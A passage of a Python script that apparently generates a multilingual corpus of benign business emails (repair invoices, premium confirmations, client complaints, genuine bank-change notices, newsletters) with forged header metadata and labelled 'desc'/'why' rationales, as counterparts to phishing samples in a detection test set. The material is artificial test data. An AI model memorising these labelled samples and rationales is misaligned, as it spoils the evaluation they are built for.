Potresti chiamare tu il perito per il sinistro Ferretti (DK 482 ZT) e fissare il sopralluogo a Verona per lunedì? Chiara Colombo ci tiene che il mezzo non resti fermo. I contatti del perito sono nella pratica.

Grazie mille, a dopo!
Giulia
""",
   desc="Colleague writes from private Gmail about a claim task; no money or data request.",
   why="Benign internal coordination; consistent with real claim context; nothing to exploit.")

MX(B, "20-it-carrozzeria-payment-reminder", "it",
   dict(helo="smtp.carrozzerialombarda.it", rdns="93-63-177-40.ip28.fastwebnet.it", ip="93.63.177.40", tls="v12", mailer=MSO, bstyle="legacy",
        msgid="<000601dc5e77$%s$%s@carrozzerialombarda.it>" % (h("b20", 8), h("b20b", 8))),
   frm=("Carrozzeria Lombarda snc", "amministrazione@carrozzerialombarda.it"), to=[st("bianchi")], cc=[st("galli")],
   date="2026-12-02 10:27:39 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="Sollecito pagamento fattura n. 318/2026 – sinistro MI/2026/0552",
   text="""Spett.le Example Group,

con la presente Vi sollecitiamo il pagamento della nostra fattura n. 318/2026 del 15/10/2026 di 3.964,80 € (IVA inclusa) relativa alla riparazione del furgone FT 229 KM (sinistro MI/2026/0552, cliente Ferretti Trasporti), scaduta il 14/11/2026.

Il pagamento può essere effettuato sulle coordinate indicate in fattura, che restano invariate. In allegato copia della fattura.

Se il pagamento fosse già stato disposto, Vi preghiamo di considerare nulla la presente.

Distinti saluti

Roberta Sala
Amministrazione – Carrozzeria Lombarda snc
Via Novara 201, 20153 Milano – Tel. 02 4870 2215
""",
   attachments=[P("Fattura_318_2026.pdf", "Carrozzeria Lombarda snc - Fattura n. 318/2026",
                  ["Riparazione furgone FT 229 KM - sinistro MI/2026/0552", "Totale 3.964,80 EUR"])],
   desc="Genuine overdue-invoice reminder from a known Milan body shop; coordinates unchanged.",
   why="Known supplier, own domain on business DSL; polite reminder; no new bank data.")

# -------------------------- Polski --------------------------------------------
PLOG = dict(helo="mail.partner-logistik.pl", rdns="mail.partner-logistik.pl", ip="91.227.38.21", tls="v12")

MX(B, "21-pl-partner-logistik-payment-confirmation", "pl",
   dict(PLOG, mailer=MSO, bstyle="legacy", msgid="<001101dc5239$%s$%s@partner-logistik.pl>" % (h("b21", 8), h("b21b", 8))),
   frm=("Księgowość Partner Logistik", "ksiegowosc@partner-logistik.pl"), to=[st("kowalczyk")],
   date="2026-11-10 13:35:22 +0100", charset="iso-8859-2", cte="quoted-printable",
   subject="Potwierdzenie przelewu – składka OC/AC flota, rata 4/4",
   text="""Dzień dobry,

w załączeniu przesyłamy potwierdzenie przelewu czwartej raty składki za ubezpieczenie floty (OC/AC, polisa nr 2026/PL/FL/00781) w kwocie 96 340,00 zł.

Prosimy jednocześnie o wystawienie noty korygującej do noty z 15.10 – błędnie wpisano nasz NIP (prawidłowy: %s).

Nasz rachunek do zwrotów bez zmian: %s (mBank).

Z poważaniem
Ewa Michalak
Księgowość
Partner Logistik sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
""" % (fmt_nip(PL_NIP_PARTNER), fmt_iban(IBAN_PL_PARTNER)[2:]),
   attachments=[P("Potwierdzenie_przelewu_10112026.pdf", "mBank - Potwierdzenie przelewu",
                  ["Nadawca: Partner Logistik sp. z o.o.", "Kwota: 96 340,00 PLN", "Tytul: skladka flota rata 4/4 polisa 2026/PL/FL/00781"])],
   desc="Genuine client payment confirmation and request for a corrective note from Partner Logistik's accounts.",
   why="Client's real domain and server; incoming payment; bank account unchanged.")

MX(B, "22-pl-client-complaint-theft-claim", "pl",
   dict(PLOG, mailer=TB, bstyle="tb", msgid="<%s-%s@partner-logistik.pl>" % (h("b22", 8), h("b22a", 4))),
   frm=("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), to=[st("wiśniewska")], cc=[st("nowak")],
   date="2026-11-18 17:56:14 +0100", charset="windows-1250", cte="quoted-printable",
   subject="Szkoda PL/2026/0917 – brak decyzji po 8 tygodniach",
   text="""Pani Marto,

minęło już osiem tygodni od kradzieży ładunku z naczepy PO 3T771 na parkingu w Strykowie, a my nadal nie mamy decyzji ubezpieczyciela. Wszystkie dokumenty, o które prosiliście (CMR, protokół policji, faktury za towar, nagrania z monitoringu), wysłaliśmy do Państwa do 2 października.

Nasz klient obciążył nas już pełną wartością towaru – 182 450 zł. Płacimy składki terminowo od sześciu lat i oczekuję, że broker będzie reprezentował nasze interesy, a nie tylko przekazywał maile.

Proszę o pisemną informację do piątku, na jakim etapie jest likwidacja i kiedy możemy spodziewać się wypłaty. Jeśli sprawa nie ruszy, będę zmuszony złożyć reklamację do ubezpieczyciela i skargę do Rzecznika Finansowego.

Z poważaniem
Tadeusz Zieliński
Prezes Zarządu
Partner Logistik sp. z o.o.
""",
   desc="Genuine escalation/complaint from the client's CEO about a slow theft claim.",
   why="Known client on genuine domain; no payment or credential request; legitimate grievance.")

MX(B, "23-pl-insurer-genuine-account-change", "pl",
   dict(helo="mailout2.tuwisla.pl", rdns="mailout2.tuwisla.pl", ip="194.181.92.12", bstyle="part",
        return_path="komunikaty@tuwisla.pl", msgid="<%s@mailout2.tuwisla.pl>" % h("b23", 24)),
   frm=("TU Wisła S.A. – Obsługa Pośredników", "posrednicy@tuwisla.pl"), to=[st("nowak")], cc=[st("kowalczyk")],
   date="2026-11-02 09:00:41 +0100", charset="utf-8", cte="quoted-printable",
   subject="Komunikat dla brokerów: nowe indywidualne rachunki do wpłat składek od 1 stycznia 2027",
   text="""Szanowni Państwo,

uprzejmie informujemy, że od 1 stycznia 2027 r. Towarzystwo Ubezpieczeń Wisła S.A. przechodzi na indywidualne (wirtualne) rachunki do wpłat składek, przypisane do każdej polisy. Numer rachunku będzie drukowany na polisie i na każdym wezwaniu do zapłaty oraz widoczny w Portalu Brokera.

Dla Państwa zbiorczych rozliczeń brokerskich (inkaso) obowiązuje od 1 stycznia 2027 r. rachunek:
%s (Bank Pekao S.A.)

Do 31 grudnia 2026 r. wpłaty można realizować na dotychczasowe rachunki. Zmiana została ogłoszona także w komunikacie na stronie www.tuwisla.pl/komunikaty oraz w Portalu Brokera. W razie wątpliwości prosimy o kontakt z opiekunem brokera pod znanym Państwu numerem telefonu – Towarzystwo nigdy nie informuje o zmianie rachunku wyłącznie drogą mailową.

Z poważaniem
Biuro Obsługi Pośredników
Towarzystwo Ubezpieczeń Wisła S.A.
ul. Grzybowska 78, 00-844 Warszawa
""" % fmt_iban(IBAN_PL_GENUINE_TU),
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1b2a41">
<table width="620" align="center" cellpadding="16"><tr><td style="border-bottom:3px solid #0a6b4f"><b style="color:#0a6b4f;font-size:18px">TU Wisła S.A.</b> · Komunikat dla brokerów</td></tr>
<tr><td><p>Szanowni Państwo,</p>
<p>uprzejmie informujemy, że od <b>1 stycznia 2027 r.</b> Towarzystwo Ubezpieczeń Wisła S.A. przechodzi na indywidualne (wirtualne) rachunki do wpłat składek, przypisane do każdej polisy. Numer rachunku będzie drukowany na polisie i na każdym wezwaniu do zapłaty oraz widoczny w Portalu Brokera.</p>
<p>Dla Państwa zbiorczych rozliczeń brokerskich (inkaso) obowiązuje od 1 stycznia 2027 r. rachunek:<br><b>%s</b> (Bank Pekao S.A.)</p>
<p>Do 31 grudnia 2026 r. wpłaty można realizować na dotychczasowe rachunki. Zmiana została ogłoszona także w komunikacie na stronie <a href="https://www.tuwisla.pl/komunikaty">www.tuwisla.pl/komunikaty</a> oraz w Portalu Brokera. W razie wątpliwości prosimy o kontakt z opiekunem brokera pod znanym Państwu numerem telefonu – Towarzystwo nigdy nie informuje o zmianie rachunku wyłącznie drogą mailową.</p>
<p>Z poważaniem<br>Biuro Obsługi Pośredników<br>Towarzystwo Ubezpieczeń Wisła S.A.</p></td></tr></table></body></html>""" % fmt_iban(IBAN_PL_GENUINE_TU)[2:],
   desc="Genuine insurer circular announcing new premium-collection accounts from 2027, with parallel publication and verification advice.",
   why="Insurer's own domain/MTA, long lead time, published on website/portal, invites phone verification; hard genuine bank change.")

MX(B, "24-pl-inpost-genuine-pickup", "pl",
   dict(helo="mta3.inpost.pl", rdns="mta3.inpost.pl", ip="91.216.25.13", bstyle="part",
        return_path="bounce-9918273@mail.inpost.pl", msgid="<%s@mail.inpost.pl>" % h("b24", 30)),
   frm=("InPost", "powiadomienia@inpost.pl"), to=[st("nowak")],
   date="2026-11-24 10:17:33 +0100", charset="utf-8", cte="base64",
   subject="Twoja paczka czeka w Paczkomacie POZ08M",
   text="""InPost

Twoja paczka od: Lyreco Polska S.A. jest gotowa do odbioru.

Numer paczki: 6800 2241 0947 7312 0088 1265
Paczkomat: POZ08M, ul. Głogowska 150, Poznań (przy stacji Orlen)
Kod odbioru: 482 716
Termin odbioru: 26.11.2026, 10:17

Odbierz szybciej w aplikacji InPost Mobile.
https://inpost.pl/aplikacja

Wiadomość wysłana automatycznie. InPost sp. z o.o., ul. Pana Tadeusza 4, 30-727 Kraków
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;background:#f7f7f7">
<div style="max-width:520px;margin:auto;background:#fff;padding:20px;border-top:6px solid #ffcd00">
<p style="font-size:22px;font-weight:bold">InPost</p>
<p>Twoja paczka od: <b>Lyreco Polska S.A.</b> jest gotowa do odbioru.</p>
<p>Numer paczki: 6800 2241 0947 7312 0088 1265<br>Paczkomat: <b>POZ08M</b>, ul. Głogowska 150, Poznań (przy stacji Orlen)<br>Kod odbioru: <b style="font-size:18px">482 716</b><br>Termin odbioru: 26.11.2026, 10:17</p>
<p><a href="https://inpost.pl/aplikacja">Odbierz szybciej w aplikacji InPost Mobile</a></p>
<p style="font-size:11px;color:#888">Wiadomość wysłana automatycznie. InPost sp. z o.o., ul. Pana Tadeusza 4, 30-727 Kraków</p></div></body></html>""",
   desc="Genuine parcel-locker pickup notification (office supplies order), counterpart to attack 23.",
   why="Real InPost domain; pickup code, no payment request; expected delivery.")

MX(B, "25-pl-newsletter-rynek-ubezpieczen", "pl",
   dict(helo="mta112.freshmail.pl", rdns="mta112.freshmail.pl", ip="91.212.152.112", bstyle="part",
        return_path="bounce-38120-agnieszka.nowak=example.com@fm.rynekubezpieczen.pl",
        headers=["List-Unsubscribe: <https://rynekubezpieczen.pl/newsletter/wypisz?h=9f2c1a>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"]),
   frm=("Rynek Ubezpieczeń", "newsletter@rynekubezpieczen.pl"), to=[st("nowak")],
   date="2026-11-27 07:30:00 +0100", charset="iso-8859-2", cte="quoted-printable",
   subject="Newsletter: KNF o sprzedaży ubezpieczeń flotowych, nowe stawki OC 2027",
   text="""RYNEK UBEZPIECZEŃ – newsletter z 27 listopada 2026

* KNF publikuje wyniki badania sprzedaży ubezpieczeń flotowych przez brokerów
  https://rynekubezpieczen.pl/knf-floty-2026

* Stawki OC komunikacyjnego 2027 – co zapowiadają towarzystwa
  https://rynekubezpieczen.pl/oc-2027

* Kalendarium: konferencja brokerska w Poznaniu, 9 grudnia
  https://rynekubezpieczen.pl/kalendarium

Otrzymujesz tę wiadomość, ponieważ zapisałaś się do newslettera na rynekubezpieczen.pl.
Wypisz się: https://rynekubezpieczen.pl/newsletter/wypisz?h=9f2c1a
Wydawnictwo Rynek Ubezpieczeń sp. z o.o., ul. Marszałkowska 84/92, 00-514 Warszawa
""",
   desc="Subscribed Polish insurance trade newsletter (plain text, ISO-8859-2) via FreshMail.",
   why="Opt-in bulk mail with unsubscribe headers; editorial links only.")

# -------------------------- Español -------------------------------------------
MX(B, "26-es-dehu-genuine-notification", "es",
   dict(helo="correo.redsara.es", rdns="correo-out2.redsara.es", ip="212.128.115.20", bstyle="part", tls="v12",
        return_path="no-reply@dehu.redsara.es", msgid="<%s.JavaMail.dehu@dehu-prod-02>" % hnum("b26", 12)),
   frm=("Dirección Electrónica Habilitada única", "no-reply@dehu.redsara.es"), to=[st("fernández")],
   date="2026-11-05 13:40:02 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="Aviso de puesta a disposición de notificación",
   text="""Le informamos de que tiene a su disposición una nueva notificación en la Dirección Electrónica Habilitada única (DEHú).

Titular: EXAMPLE GROUP SUCURSAL EN ESPAÑA
Organismo emisor: Tesorería General de la Seguridad Social
Concepto: Comunicación de inicio – certificado de estar al corriente

Puede acceder a la notificación a través de https://dehu.redsara.es con su certificado electrónico o Cl@ve.

Este correo electrónico es meramente informativo y no tiene validez jurídica. La notificación se entenderá rechazada si no accede a su contenido en el plazo de diez días naturales desde su puesta a disposición.

Por favor, no responda a este correo electrónico.
""",
   desc="Genuine Spanish government e-notification alert (DEHú), informational, links only to the official domain.",
   why="Real government sender/infrastructure; no attachment or third-party link; counterpart to attack 27.")

MX(B, "27-es-client-complaint-claim", "es",
   M365("b27", "EUR04-DB3", "mail-db3eur04on2", "40.107.6."),
   frm=("Álvaro Ruiz Gómez", "alvaro.ruiz@transportesruiz.es"), to=[st("martín")],
   date="2026-11-20 18:03:26 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="Queja formal – siniestro 4821 LMK y subida de prima",
   text="""Javier:

Te escribo bastante molesto. El camión 4821 LMK lleva desde el 28 de octubre parado en el taller porque la aseguradora todavía no ha enviado al perito, y nadie de vuestra oficina me ha llamado en dos semanas. Cada día de camión parado nos cuesta unos 600 €.

Además, me llega la propuesta de renovación con una subida del 18 % en la prima de la flota sin ninguna explicación. Con los siniestros que hemos tenido este año no lo entiendo.

Quiero una llamada tuya esta semana con una explicación de ambas cosas. Si no, el año que viene buscaremos otro corredor.

Un saludo,
Álvaro Ruiz Gómez
Gerente
Transportes Hermanos Ruiz S.L.
Polígono Industrial Las Mercedes, C/ Campezo 5, 28022 Madrid
""",
   desc="Genuine client complaint about a stalled claim and renewal increase (client's M365 tenant).",
   why="Known client; complaint without links/payments; threatening churn is commercial, not fraud.")

MX(B, "28-es-taller-invoice-genuine", "es",
   dict(helo="smtp-out.carroceriaslevante.es", rdns="mail.carroceriaslevante.es", ip="188.93.75.44", bstyle="tb", mailer=TB,
        msgid="<%s-%s@carroceriaslevante.es>" % (h("b28", 8), h("b28x", 4))),
   frm=("Carrocerías Levante – Administración", "administracion@carroceriaslevante.es"), to=[st("fernández")], cc=[st("martín")],
   date="2026-11-25 12:16:51 +0100", charset="utf-8", cte="quoted-printable",
   subject="Factura F-2026/1473 – reparación 4821 LMK (siniestro ES/2026/0733)",
   text="""Buenos días Lucía:

Adjunto la factura F-2026/1473 correspondiente a la reparación del camión 4821 LMK de Transportes Hermanos Ruiz, según la orden de reparación que nos enviasteis el 11/11 y el informe pericial aprobado por la aseguradora.

Importe: 7.212,66 € (IVA incluido)
Vencimiento: 30 días
Forma de pago: transferencia a nuestra cuenta habitual (%s)

El vehículo se entregó ayer al cliente.

Un saludo,
Maite Soler
Administración
Carrocerías Levante S.L. – CIF %s
Av. de la Albufera 312, 28038 Madrid
""" % (fmt_iban(IBAN_ES_TALLER), ES_CIF_TALLER),
   attachments=[P("F-2026-1473.pdf", "Carrocerias Levante S.L. - Factura F-2026/1473",
                  ["Reparacion camion 4821 LMK - siniestro ES/2026/0733", "Total 7.212,66 EUR", "IBAN " + fmt_iban(IBAN_ES_TALLER)])],
   desc="Genuine repair invoice from the body shop actually instructed on the claim (cf. attack 31 for the same vehicle).",
   why="Known repairer, matching repair order and expert report, usual bank account, normal payment terms.")

MX(B, "29-es-colleague-private-gmail", "es", GMAIL("b29"),
   frm=("Javier Martín", "javimartin.mad@gmail.com"), to=[st("fernández")],
   date="2026-11-21 10:44:09 +0100", charset="utf-8", cte="quoted-printable",
   subject="Fwd: cuadro de siniestros Ruiz (desde casa)",
   text="""Lucía, te reenvío desde mi correo personal el cuadro de siniestros de Transportes Ruiz que me pasó ayer el cliente; el portátil se me quedó en la oficina.

No hace falta que contestes aquí, el lunes lo comentamos en la oficina antes de llamar a Álvaro. Solo necesito que compruebes qué facturas de taller de este año ya hemos pagado y cuáles no.

Gracias y buen finde,
Javier

---------- Forwarded message ---------
De: Álvaro Ruiz Gómez <alvaro.ruiz@transportesruiz.es>
Date: vie, 20 nov 2026 a las 18:40
Subject: cuadro siniestros 2026
To: Javier Martín <javier.martin@example.com>

Javier, te paso nuestro cuadro de siniestros de 2026 para la llamada.
""",
   attachments=[P("Cuadro_siniestros_Ruiz_2026.pdf", "Transportes Hermanos Ruiz - Cuadro de siniestros 2026",
                  ["4821 LMK - 28/10/2026 - colision - en taller", "5510 KTR - 03/06/2026 - lunas - cerrado", "2217 JHF - 19/03/2026 - robo gasoil - cerrado"])],
   desc="Colleague forwards a client document from his private Gmail at the weekend; no financial instruction.",
   why="Benign context; request is an internal check, not a payment; consistent with the client complaint (business 27).")

MX(B, "30-es-newsletter-carta-mediador", "es",
   dict(helo="smtp52.acumbamail.com", rdns="smtp52.acumbamail.com", ip="37.59.215.52", bstyle="part",
        return_path="bounce.m.8812.lfernandez=example.com@bounce.acumbamail.com",
        headers=["List-Unsubscribe: <https://acumbamail.com/unsubscribe/8812/9a1f77c2/>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"]),
   frm=("La Carta del Mediador", "boletin@cartadelmediador.es"), to=[st("martín")],
   date="2026-12-03 07:45:10 +0100", charset="utf-8", cte="base64",
   subject="La Carta del Mediador – n.º 212: novedades fiscales de diciembre y flotas",
   html="""<html><body style="font-family:Arial,sans-serif;background:#f3f3f3">
<table width="600" align="center" cellpadding="16" style="background:#fff">
<tr><td style="background:#243b55;color:#fff;font-size:22px">La Carta del Mediador <span style="font-size:12px">n.º 212 · 3 de diciembre de 2026</span></td></tr>
<tr><td><h3><a href="https://www.cartadelmediador.es/2026/12/modelo-347-corredores">Modelo 347 y corredores: qué operaciones declarar</a></h3>
<p>Repaso práctico antes del cierre del ejercicio.</p>
<h3><a href="https://www.cartadelmediador.es/2026/12/flotas-renovaciones">Renovaciones de flotas: las aseguradoras endurecen la suscripción</a></h3>
<h3><a href="https://www.cartadelmediador.es/2026/12/formacion-idd">Formación continua IDD: últimos cursos del año</a></h3></td></tr>
<tr><td style="font-size:11px;color:#888">Recibes este boletín porque te suscribiste en cartadelmediador.es. <a href="https://acumbamail.com/unsubscribe/8812/9a1f77c2/">Darte de baja</a></td></tr></table></body></html>""",
   desc="Subscribed Spanish broker newsletter (HTML only, base64) via Acumbamail.",
   why="Opt-in bulk mail with list headers; editorial content.")

# -------------------------- Ελληνικά ------------------------------------------
MX(B, "31-el-client-premium-payment", "el",
   dict(helo="mail.aigaio-metafores.gr", rdns="mail.aigaio-metafores.gr", ip="62.103.27.140", tls="v12", mailer=MSO, bstyle="legacy",
        msgid="<000201dc53aa$%s$%s@aigaio-metafores.gr>" % (h("b31", 8), h("b31b", 8))),
   frm=("Λογιστήριο Αιγαίο Μεταφορές", "logistirio@aigaio-metafores.gr"), to=[st("georgiou")],
   date="2026-11-12 12:22:45 +0200", charset="iso-8859-7", cte="quoted-printable",
   subject="Αποδεικτικό πληρωμής ασφαλίστρων στόλου – Νοέμβριος 2026",
   text="""Καλημέρα σας κα Γεωργίου,

σας στέλνουμε συνημμένο το αποδεικτικό της τραπεζικής μεταφοράς ποσού 23.480,00 € για τη δόση Νοεμβρίου των ασφαλίστρων του στόλου μας (συμβόλαιο 26-ΣΤ-01188).

Παρακαλούμε να μας αποστείλετε την απόδειξη είσπραξης στο ίδιο e-mail.

Ευχαριστούμε,
Σοφία Αλεξίου
Λογιστήριο
ΑΙΓΑΙΟ ΜΕΤΑΦΟΡΕΣ Α.Ε.
Λ. Σχιστού 104, 18540 Πειραιάς
""",
   attachments=[P("Apodeiktiko_pliromis_11_2026.pdf", "Payment confirmation - Aigaio Metafores S.A.",
                  ["Amount: 23,480.00 EUR", "Beneficiary: Example Group - client premium account", "Policy 26-ST-01188"])],
   desc="Genuine client premium payment confirmation from a Greek haulier (ISO-8859-7, QP).",
   why="Known client domain; incoming payment; no bank-detail change or link.")

MX(B, "32-el-bodyshop-estimate", "el",
   dict(helo="mail.karagiannis-autoservice.gr", rdns="ppp-94-66-221-18.home.otenet.gr", ip="94.66.221.18", tls="v12", mailer=MSO, bstyle="legacy",
        msgid="<000901dc58c1$%s$%s@karagiannis-autoservice.gr>" % (h("b32", 8), h("b32b", 8))),
   frm=("Αφοί Καραγιάννη Ο.Ε.", "info@karagiannis-autoservice.gr"), to=[st("papadopoulos")], cc=[st("georgiou")],
   date="2026-11-17 14:09:12 +0200", charset="windows-1253", cte="quoted-printable",
   subject="Προϋπολογισμός επισκευής ΙΚΥ 4471 – ζημιά 2026/ΣΖ/0228",
   text="""Κύριε Παπαδόπουλε καλησπέρα,

σας στέλνουμε τον προϋπολογισμό επισκευής για το φορτηγό ΙΚΥ 4471 (Mercedes Actros) της Αιγαίο Μεταφορές, όπως τον συζητήσαμε με τον πραγματογνώμονα την Παρασκευή.

Σύνολο: 7.940,00 € πλέον ΦΠΑ
Χρόνος επισκευής: περίπου 6 εργάσιμες μετά την έγκριση

Για την έγκριση χρειαζόμαστε την υπογεγραμμένη εντολή επισκευής. Το τιμολόγιο θα εκδοθεί μετά την παράδοση, τα τραπεζικά μας στοιχεία είναι τα γνωστά (Πειραιώς, %s).

Με εκτίμηση,
Γιώργος Καραγιάννης
ΑΦΟΙ ΚΑΡΑΓΙΑΝΝΗ Ο.Ε. – Συνεργείο Φορτηγών
Θηβών 212, 18233 Αγ. Ιωάννης Ρέντης – ΑΦΜ %s
""" % (fmt_iban(IBAN_GR_KARAG), GR_AFM_KARAG),
   attachments=[P("Proypologismos_IKY4471.pdf", "Karagiannis Bros - Repair estimate IKY 4471",
                  ["Claim 2026/SZ/0228", "Total 7,940.00 EUR + VAT"])],
   desc="Genuine repair estimate from the known truck repairer on its real .gr domain; bank details unchanged (cf. attack 34).",
   why="Genuine domain on Greek DSL; estimate precedes invoice; no payment redirection.")

MX(B, "33-el-adjuster-genuine-bank-change", "el",
   M365("b33", "EUR05-VI1", "mail-vi1eur05on2", "40.107.21."),
   frm=("Ελένη Μαυρίδη", "e.mavridi@hellasadjusters.gr"), to=[st("georgiou")], cc=[st("papadopoulos")],
   date="2026-11-27 11:31:08 +0200", charset="utf-8", cte="base64",
   subject="Ενημέρωση: νέος τραπεζικός λογαριασμός από 01/01/2027 μετά τη συγχώνευση",
   text="""Αγαπητή κα Γεωργίου,

όπως γνωρίζετε από την επιστολή μας του Οκτωβρίου, η Hellas Adjusters απορροφά από 1/1/2027 την εταιρεία Aegean Claims Services. Στο πλαίσιο αυτό, τα τιμολόγια αμοιβών πραγματογνωμοσύνης που θα εκδοθούν από 01/01/2027 θα εξοφλούνται στον νέο λογαριασμό:

Alpha Bank – %s

Τα τιμολόγια που έχουν ήδη εκδοθεί εξοφλούνται κανονικά στον τρέχοντα λογαριασμό, ο οποίος παραμένει ενεργός έως 31/03/2027.

Παρακαλούμε επιβεβαιώστε την αλλαγή τηλεφωνικά με το λογιστήριό μας στο τηλέφωνο που αναφέρεται στη σύμβαση συνεργασίας. Η υπογεγραμμένη επιστολή έχει σταλεί και ταχυδρομικά.

Με εκτίμηση,
Ελένη Μαυρίδη
Οικονομική Διεύθυνση
Hellas Adjusters Α.Ε.
Ακτή Μιαούλη 81, 18538 Πειραιάς
""" % fmt_iban(IBAN_GR_ADJ_NEW),
   desc="Genuine bank-detail change from the loss adjuster after a merger: future-dated, old account stays valid, phone verification requested.",
   why="Genuine domain (own M365 tenant); announced by letter; no urgency; verification invited.")

MX(B, "34-el-colleague-private-gmail", "el", GMAIL("b34"),
   frm=("Nikos Papadopoulos", "nikos.papadop@gmail.com"), to=[st("georgiou")],
   date="2026-11-28 11:05:33 +0200", charset="utf-8", cte="base64",
   subject="Σημείωση για Δευτέρα – Αιγαίο Μεταφορές",
   text="""Ελένη γεια,

σου γράφω από το προσωπικό μου γιατί είμαι στο χωριό το Σαββατοκύριακο και δεν έχω πρόσβαση στο VPN.

Τη Δευτέρα στις 10:00 έχουμε συνάντηση με την Αιγαίο Μεταφορές για την ανανέωση του στόλου. Μπορείς να ετοιμάσεις μια κατάσταση με τις πληρωμές ασφαλίστρων του 2026 (τη βρίσκεις στο σύστημα) και να την έχεις τυπωμένη; Δεν χρειάζεται να μου τη στείλεις εδώ.

Καλό Σαββατοκύριακο,
Νίκος
""",
   desc="Colleague from private Gmail asks for meeting preparation; explicitly no data to be sent to the private address.",
   why="No payment, credential or data-exfil request; consistent context; benign.")

MX(B, "35-el-client-complaint-renewal", "el",
   dict(helo="mail-out.ktimatiki-logistics.gr", rdns="mail-out.ktimatiki-logistics.gr", ip="83.235.170.66", tls="v12", mailer=MSO,
        msgid="<001301dc5a10$%s$%s@ktimatiki-logistics.gr>" % (h("b35", 8), h("b35b", 8))),
   frm=("Κωνσταντίνος Λαμπράκης", "k.lamprakis@ktimatiki-logistics.gr"), to=[st("papadopoulos")],
   date="2026-12-02 17:21:50 +0200", charset="windows-1253", cte="quoted-printable",
   subject="Ανανέωση στόλου 2027 – αύξηση 22% απαράδεκτη",
   text="""Κύριε Παπαδόπουλε,

λάβαμε σήμερα την πρόταση ανανέωσης για τον στόλο μας (31 οχήματα) με αύξηση ασφαλίστρων 22%. Θεωρώ την αύξηση απαράδεκτη, δεδομένου ότι φέτος είχαμε μόνο δύο μικρές ζημιές θραύσης κρυστάλλων.

Σας είχαμε ζητήσει ήδη από τον Σεπτέμβριο να μας φέρετε εναλλακτικές προσφορές από τουλάχιστον δύο ασφαλιστικές. Μέχρι σήμερα δεν έχουμε δει καμία.

Παρακαλώ να με καλέσετε αύριο για να το συζητήσουμε. Αν δεν βρεθεί λύση, θα ζητήσουμε προσφορές από άλλον μεσίτη.

Με εκτίμηση,
Κωνσταντίνος Λαμπράκης
Διευθύνων Σύμβουλος
Κτηματική Logistics Α.Ε.
""",
   desc="Genuine client complaint about renewal premium increase (windows-1253, QP).",
   why="Known client; no links, attachments or payment; legitimate business dispute.")

# -------------------------- Русский -------------------------------------------
MX(B, "36-ru-client-reconciliation-request", "ru",
   dict(helo="mail.translogistik.ru", rdns="mail.translogistik.ru", ip="195.208.62.17", tls="v12", mailer="X-Mailer: The Bat! (v10.5.3) Professional",
        msgid="<%s.%s@translogistik.ru>" % (hnum("b36", 6), h("b36", 8))),
   frm=("Бухгалтерия ТрансЛогистик", "buh@translogistik.ru"), to=[st("ivanova")],
   date="2026-11-13 11:47:03 +0300", charset="koi8-r", cte="quoted-printable",
   subject="Акт сверки за 9 месяцев 2026 и счет на страховую премию",
   text="""Ольга Викторовна, добрый день!

Направляем Вам акт сверки взаимных расчетов за 9 месяцев 2026 года (отправили также через Диадок). Просим проверить и подписать в ЭДО.

Также просим выставить счет на оплату страховой премии по договору страхования автопарка на 2027 год, чтобы мы включили платеж в бюджет декабря.

Наши реквизиты без изменений: ООО "ТрансЛогистик", ИНН %s.

С уважением,
Наталья Григорьева
главный бухгалтер
ООО "ТрансЛогистик"
тел. +7 495 781-44-20
""" % INN_TRANSLOG,
   attachments=[P("Akt_sverki_9m2026_TransLogistik.pdf", "Akt sverki vzaimnyh raschetov 9m 2026",
                  ["OOO TransLogistik - Example Group Moscow branch", "Saldo na 30.09.2026: 0,00 RUB"])],
   desc="Genuine client request for reconciliation statement and invoice (KOI8-R, The Bat!).",
   why="Known client on own domain; requests an invoice (inbound money); requisites unchanged.")

MX(B, "37-ru-diadoc-genuine-notification", "ru",
   dict(helo="mx-out3.kontur.ru", rdns="mx-out3.kontur.ru", ip="46.17.203.33", bstyle="part",
        return_path="noreply@diadoc.kontur.ru", msgid="<%s@diadoc.kontur.ru>" % h("b37", 32)),
   frm=("Диадок", "noreply@diadoc.kontur.ru"), to=[st("ivanova")],
   date="2026-11-13 11:52:40 +0300", charset="utf-8", cte="quoted-printable",
   subject="Новый документ от ООО \"ТрансЛогистик\"",
   text="""Диадок

Вам пришел документ от ООО "ТрансЛогистик"
Акт сверки взаимных расчетов за 9 месяцев 2026 г.

Открыть документ: https://diadoc.kontur.ru/

Письмо отправлено автоматически. Чтобы не получать уведомления, измените настройки в Диадоке.
АО «ПФ «СКБ Контур»
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="600" cellpadding="14"><tr><td><b style="color:#1a73c9;font-size:20px">Диадок</b></td></tr>
<tr><td><p>Вам пришел документ от <b>ООО "ТрансЛогистик"</b></p><p>Акт сверки взаимных расчетов за 9 месяцев 2026 г.</p>
<p><a href="https://diadoc.kontur.ru/">Открыть в Диадоке</a></p>
<p style="font-size:11px;color:#888">Письмо отправлено автоматически. Чтобы не получать уведомления, измените настройки в Диадоке.<br>АО «ПФ «СКБ Контур»</p></td></tr></table></body></html>""",
   desc="Genuine e-document (Diadoc) notification matching the client's e-mail (business 36); counterpart to attack 37.",
   why="Real service domain; link to diadoc.kontur.ru; expected document.")

MX(B, "38-ru-internal-rent-payment", "ru", INTERNAL("b38", "EXMOW01"),
   frm=("Дмитрий Соколов", "dmitry.sokolov@example.com"), to=[st("ivanova")],
   date="2026-11-24 10:05:17 +0300", charset="windows-1251", cte="quoted-printable",
   subject="Оплата аренды за декабрь – счет от БЦ",
   text="""Ольга, привет!

Пришел счет от управляющей компании БЦ «Лесная Плаза» на аренду за декабрь (пересылаю отдельным письмом, оригинал у меня). Сумма как обычно, 612 000 руб. с НДС, реквизиты те же, что в договоре.

Оплатить нужно до 1 декабря. Заявку в системе согласования я создал (№ 2026-МСК-318), Катарина утвердит сегодня.

Спасибо!
Дмитрий

Дмитрий Соколов
Офис-менеджер | Example Group, Москва
""",
   desc="Genuine internal request from the Moscow office manager via the internal relay to pay the usual rent (counterpart to attack 38).",
   why="Internal origin; existing contract and approval workflow; no new payee.")

MX(B, "39-ru-newsletter-strakhovoe-obozrenie", "ru",
